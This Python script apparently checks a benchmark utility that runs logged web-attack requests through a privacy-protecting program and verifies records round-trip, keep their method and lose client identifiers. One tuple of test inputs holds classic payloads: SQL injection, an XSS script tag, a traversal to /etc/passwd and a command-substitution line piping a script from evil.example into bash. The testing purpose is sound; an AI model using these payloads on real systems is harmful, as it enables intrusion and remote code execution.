#!/usr/bin/env python3
"""check_utility.py PROGRAM — holds `bench/run utility` to what its numbers rest on.

If a request became a record that is not read, or records and requests got out of step, its table would tell
of something else than what survives. What it needs of the core rule set is not tested here.
"""

import os
import sys

sys.dont_write_bytecode = True
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, '../bench/utility'))
sys.path.insert(0, HERE)
import as_record  # noqa: E402
import attacks  # noqa: E402
import check_samples  # noqa: E402
import measure  # noqa: E402
import payloads  # noqa: E402

LEAST = {'attacks': 300, 'visits': 100}
# Of nobody, so it comes back as it was.
HARMLESS = ("1' OR '1'='1", '<script>alert(1)</script>', '../../../../etc/passwd',
            '$(curl http://evil.example/x.sh|bash)')


def corpus(requests):
    """What is wrong with the requests themselves."""
    visits = [one for one in requests if one.category == attacks.BENIGN]
    if len(visits) < LEAST['visits'] or len(requests) - len(visits) < LEAST['attacks']:
        yield f'{len(visits)} visits of {len(requests)} requests'
    for what, wanted, found in (
            ('category', payloads.ATTACKS, {one.category for one in requests}),
            ('position', attacks.POSITIONS, {one.position for one in requests})):
        yield from (f'no request of {what} {one}' for one in wanted if one not in found)
    if requests != attacks.all_requests():
        yield 'the requests are others each time'
    yield from (f'a mark was left in {one.target}' for one in requests
                if attacks.MARK.search(as_record.record_of(one)))
    strange = set().union(*(check_samples.strangers(as_record.record_of(one)) for one in requests))
    yield from (f'not reserved for examples: {one}' for one in strange)


def round_trip(requests):
    for number, one in enumerate(requests):
        back = as_record.request_of(as_record.record_of(one), one.category, one.position)
        if back != one:
            yield f'request {number} comes back as {back}'


def through_program(program, requests):
    left = measure.protected(program, 'eu', requests)
    yield from (f'request {number} is not published' for number, one in enumerate(left) if one is None)
    pairs = [(before, after) for before, after in zip(requests, left) if after]
    yield from (f'{before.method} became {after.method}' for before, after in pairs
                if before.method != after.method)
    yield from (f'the client is still in {after.target}' for _, after in pairs
                if as_record.CLIENT in str(after))


def harmless(program):
    """Nothing is taken from what holds nothing of a person, but what the host and the browser are."""
    sent = [attacks.Request('xss', 'query', 'GET', f'/search?item={attacks.encoded(text)}&x=1',
                            attacks.with_headers(), (text,)) for text in HARMLESS]
    for before, after in zip(sent, measure.protected(program, 'eu', sent)):
        if after is None or (before.target, before.evidence) != (after.target, after.evidence):
            yield f'{before.target} becomes {after and after.target}'


def main():
    if len(sys.argv) != 2:
        sys.exit('check_utility.py PROGRAM')
    requests = attacks.all_requests()
    problems = [*corpus(requests), *round_trip(requests), *through_program(sys.argv[1], requests),
                *harmless(sys.argv[1])]
    for one in problems[:20]:
        print(f'FAILED {one}')
    print(f'{len(requests)} requests, {len(problems)} problems')
    return 1 if problems else 0


if __name__ == '__main__':
    sys.exit(main())
